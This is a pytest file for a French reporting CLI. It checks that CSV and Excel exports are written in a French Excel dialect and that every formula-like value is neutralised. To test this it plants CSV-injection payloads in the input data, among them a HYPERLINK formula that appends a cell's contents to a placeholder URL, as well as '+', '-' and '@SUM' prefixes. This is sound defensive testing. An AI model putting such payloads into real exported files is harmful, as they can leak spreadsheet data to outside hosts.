"""Every command on the mini extract with poisoned ML names and a poisoned rejected value:
every CSV in the one dialect, in French, with no live formula in any CSV or workbook."""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from perfml.cli import app
from perfml.outputs import FORMULA_PREFIXES, UTF8_BOM

EXAMPLE = Path(__file__).parents[2] / "exemples" / "allocation.toml"
POISONS = [
    '=HYPERLINK("http://exemple.invalid/?"&A2,"Voir")',
    "+1 Mission locale",
    "-2 Mission locale",
    "@SUM(A1:A9)",
]
POISONED_VALUE = '=HYPERLINK("http://exemple.invalid","rejet")'
# Tokens that must never be a whole cell of a file for people: English or null values.
FORBIDDEN = {"nan", "NaN", "None", "NaT", "null", "True", "False", "true", "false"}
FORBIDDEN |= {"higher", "lower", "<NA>", "inf", "-inf"}


def _poison(extract: Path, out: Path) -> Path:
    """Copy the extract, give four MLs formula-like names and add a rejected formula value."""
    shutil.copytree(extract, out)
    structures = pd.read_parquet(out / "structures.parquet")
    for i, name in enumerate(POISONS):
        structures.loc[i, "nom"] = name
    structures.to_parquet(out / "structures.parquet", index=False)
    jeunes = pd.read_parquet(out / "jeunes.parquet")
    bad = jeunes.iloc[[0]].copy()
    bad["id_jeune"] = "JPOISON"
    bad["sexe"] = POISONED_VALUE
    pd.concat([jeunes, bad]).to_parquet(out / "jeunes.parquet", index=False)
    return out


def _run(*args) -> None:
    result = CliRunner().invoke(app, [str(a) for a in args], catch_exceptions=False)
    assert result.exit_code == 0, result.output


@pytest.fixture(scope="module")
def outputs_dir(mini_extract, tmp_path_factory) -> Path:
    """Run every command writing files; return the folder holding all they wrote."""
    root = tmp_path_factory.mktemp("sorties")
    extract = _poison(mini_extract, root / "extrait")
    out = root / "out"
    w = root / "entrepot.duckdb"
    _run("charger", "--donnees", extract, "--entrepot", w, "--rapport-rejets", out / "rejets.csv")
    _run("indicateurs", "--entrepot", w, "--annee", 2024, "--sortie", out / "ind_2024.csv")
    _run("indicateurs", "--entrepot", w, "--annee", 2024, "--sortie", out / "ind_2024.xlsx")
    _run(
        "suivi-mensuel", "--entrepot", w, "--debut", "2024-11", "--fin", "2024-12",
        "--sortie", out / "suivi_2024.csv",
    )  # fmt: skip
    for year in (2023, 2024):
        _run("groupes", "--entrepot", w, "--annee", year, "--k", 3, "--sortie",
             out / f"groupes_{year}.csv")  # fmt: skip
    _run("groupes", "--entrepot", w, "--annee", 2024, "--k", 3, "--sortie", out / "g_2024.xlsx")
    _run("cibles", "--entrepot", w, "--annee", 2024, "--sortie", out / "cibles_2025.csv")
    _run("rapports", "--entrepot", w, "--annee", 2024, "--sortie", out / "rapports", "--excel")
    _run(
        "allocation", "--entrepot", w, "--annee", 2024, "--config", EXAMPLE,
        "--sortie", out / "allocation",
    )  # fmt: skip
    _run(
        "allocation-nationale", "--entrepot", w, "--annee", 2024, "--config", EXAMPLE,
        "--sortie", out / "nationale",
    )  # fmt: skip
    for diffusion in ("interne", "externe"):
        _run(
            "garantie-jeunes", "--entrepot", w, "--annee", 2024, "--au", "2024-07-15",
            "--diffusion", diffusion, "--sortie", out / f"gj_{diffusion}_2024.xlsx",
        )  # fmt: skip
    _run("qualite", "--entrepot", w, "--annee", 2024, "--sortie", out / "qualite_2024.xlsx")
    _run(
        "tableau-de-bord", "--entrepot", w, "--periode", "2024", "--niveau", "national",
        "--sortie", out / "tdb.xlsx",
    )  # fmt: skip
    _run(
        "indicateurs", "--entrepot", w, "--annee", 2024, "--csv", "standard",
        "--sortie", out / "standard" / "ind_2024.csv",
    )  # fmt: skip
    _run(
        "groupes", "--entrepot", w, "--annee", 2024, "--k", 3, "--csv", "standard",
        "--sortie", out / "standard" / "groupes_2024.csv",
    )  # fmt: skip
    return out


def _csv_files(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*.csv") if "standard" not in p.parts)


def _read(path: Path, delimiter: str) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


def _is_number(text: str, decimal: str) -> bool:
    return re.fullmatch(rf"-?\d+(\{decimal}\d+)?", text) is not None


def test_every_command_wrote_its_csv_files(outputs_dir):
    names = {p.name for p in _csv_files(outputs_dir)}
    expected = {
        "rejets.csv", "ind_2024.csv", "suivi_2024.csv", "groupes_2024.csv",
        "groupes_2024_description.csv", "cibles_2025.csv", "allocation_ml_2024.csv",
        "explication_2024.csv", "progression_2024.csv", "qualite_ml_2024.csv",
        "gj_interne_2024_regions.csv", "gj_externe_2024_ml.csv",
    }  # fmt: skip
    assert expected <= names


def test_every_csv_is_in_the_french_excel_dialect(outputs_dir):
    for path in _csv_files(outputs_dir):
        raw = path.read_bytes()
        assert raw.startswith(UTF8_BOM.encode()), path.name
        lines = raw.decode("utf-8-sig").split("\r\n")
        assert lines[-1] == "" and ";" in lines[0] and "," not in lines[0], path.name
        rows = _read(path, ";")
        assert len({len(r) for r in rows}) == 1, path.name


def test_no_csv_holds_an_english_or_null_token_or_a_badly_written_number(outputs_dir):
    for path in _csv_files(outputs_dir):
        for row in _read(path, ";")[1:]:
            for cell in row:
                assert cell not in FORBIDDEN, (path.name, cell)
                # No "29,0", no "2250.6000000000004", no "1e-05".
                assert not re.fullmatch(r"-?\d+,0+", cell), (path.name, cell)
                assert not re.fullmatch(r"-?\d+\.\d+(e-?\d+)?", cell), (path.name, cell)
                assert not re.fullmatch(r"-?\d+(,\d+)?e[+-]?\d+", cell), (path.name, cell)


def test_no_csv_cell_can_start_a_formula(outputs_dir):
    seen = set()
    for path in _csv_files(outputs_dir):
        for row in _read(path, ";"):
            for cell in row:
                if cell.startswith(FORMULA_PREFIXES):
                    assert _is_number(cell, ","), (path.name, cell)
                seen.update(p for p in [*POISONS, POISONED_VALUE] if cell == "'" + p)
    assert seen == {*POISONS, POISONED_VALUE}


def test_standard_dialect_is_rfc_4180(outputs_dir):
    for path in (outputs_dir / "standard").glob("*.csv"):
        raw = path.read_bytes()
        assert not raw.startswith(UTF8_BOM.encode()), path.name
        rows = _read(path, ",")
        assert len({len(r) for r in rows}) == 1, path.name
        cells = [cell for row in rows[1:] for cell in row]
        assert not [c for c in cells if re.fullmatch(r"-?\d+,\d+", c)], path.name
    values = [r[-1] for r in _read(outputs_dir / "standard" / "ind_2024.csv", ",")[1:]]
    assert any(re.fullmatch(r"-?\d+\.\d+", v) for v in values)


def test_no_workbook_holds_a_formula_made_of_data(outputs_dir):
    workbooks = sorted(outputs_dir.rglob("*.xlsx"))
    assert len(workbooks) >= 8
    found = set()
    for path in workbooks:
        book = openpyxl.load_workbook(path)
        assert "Sheet1" not in book.sheetnames, path.name
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        # Only the product's own formulas (the chosen target) are formulas.
                        assert "HYPERLINK" not in str(cell.value), (path.name, cell.coordinate)
                        assert "SUM(A1" not in str(cell.value), (path.name, cell.coordinate)
                    elif isinstance(cell.value, str):
                        found.update(p for p in POISONS if p in cell.value)
    assert found == set(POISONS)


def test_indicators_workbook_has_french_headers_and_number_formats(outputs_dir):
    sheet = openpyxl.load_workbook(outputs_dir / "ind_2024.xlsx")["Indicateurs"]
    assert [c.value for c in sheet[1]][:4] == ["Niveau", "Code", "Code région", "N°"]
    assert sheet["G2"].number_format == "#,##0"


def test_unknown_dialect_is_refused_in_french_before_any_computation(tmp_path):
    result = CliRunner().invoke(
        app,
        ["indicateurs", "--entrepot", str(tmp_path / "absent.duckdb"), "--annee", "2024",
         "--sortie", str(tmp_path / "x.csv"), "--csv", "tsv"],
    )  # fmt: skip
    assert result.exit_code == 2
    assert "Dialecte CSV inconnu « tsv »" in result.output
    assert not (tmp_path / "x.csv").exists()
